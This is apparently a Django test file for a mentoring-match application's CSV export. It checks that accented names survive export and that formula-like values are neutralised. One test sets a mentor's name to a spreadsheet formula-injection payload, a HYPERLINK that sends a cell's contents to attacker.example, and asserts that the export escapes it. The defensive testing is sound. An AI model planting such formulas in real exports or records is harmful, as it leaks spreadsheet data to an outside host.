import csv
import io

from django.urls import reverse

from tandem.matching.domain import runs


def _rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_run_export_neutralises_a_name_a_spreadsheet_would_run(client, cohort):
    adam = cohort["mentors"][0].person
    adam.full_name = '=HYPERLINK("http://attacker.example/?d="&A2,"open")'
    adam.save(update_fields=["full_name"])
    run = runs.start_run(cohort["edition"], actor=cohort["actor"])
    client.force_login(cohort["actor"])

    response = client.get(
        reverse("matching:export", args=[cohort["edition"].slug, run.pk])
    )

    mentors = {row[0] for row in _rows(response)[1:]}
    assert '\'=HYPERLINK("http://attacker.example/?d="&A2,"open")' in mentors
    assert not any(name.startswith("=") for name in mentors)


def test_the_run_export_keeps_diacritics_for_excel(client, cohort):
    run = runs.start_run(cohort["edition"], actor=cohort["actor"])
    client.force_login(cohort["actor"])

    response = client.get(
        reverse("matching:export", args=[cohort["edition"].slug, run.pk])
    )

    assert response.content.startswith("\ufeff".encode())
    mentees = sorted(row[2] for row in _rows(response)[1:])
    assert mentees == ["Dóra Kiss", "Jan Kowal", "Zoë Nowak"]
